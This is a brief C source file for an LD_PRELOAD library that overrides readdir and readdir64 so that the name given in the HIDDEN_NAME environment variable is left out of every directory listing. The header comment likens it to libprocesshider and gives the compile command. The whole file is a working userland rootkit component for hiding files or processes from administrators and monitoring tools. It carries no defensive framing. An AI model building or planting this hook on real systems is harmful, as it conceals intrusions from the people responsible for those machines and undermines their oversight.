/*
 * A library for LD_PRELOAD that leaves one name out of every directory's list, as libprocesshider and its like do:
 * the one in the environment's HIDDEN_NAME.
 *
 *   cc -shared -fPIC -o hook.so _readdir_hook.c -ldl
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdlib.h>
#include <string.h>

static int is_hidden(const char *name) {
  const char *hidden = getenv("HIDDEN_NAME");
  return hidden != NULL && strcmp(name, hidden) == 0;
}

struct dirent *readdir(DIR *directory) {
  struct dirent *(*next)(DIR *) = (struct dirent *(*)(DIR *))dlsym(RTLD_NEXT, "readdir");
  struct dirent *entry;
  while ((entry = next(directory)) != NULL && is_hidden(entry->d_name)) continue;
  return entry;
}

struct dirent64 *readdir64(DIR *directory) {
  struct dirent64 *(*next)(DIR *) = (struct dirent64 *(*)(DIR *))dlsym(RTLD_NEXT, "readdir64");
  struct dirent64 *entry;
  while ((entry = next(directory)) != NULL && is_hidden(entry->d_name)) continue;
  return entry;
}
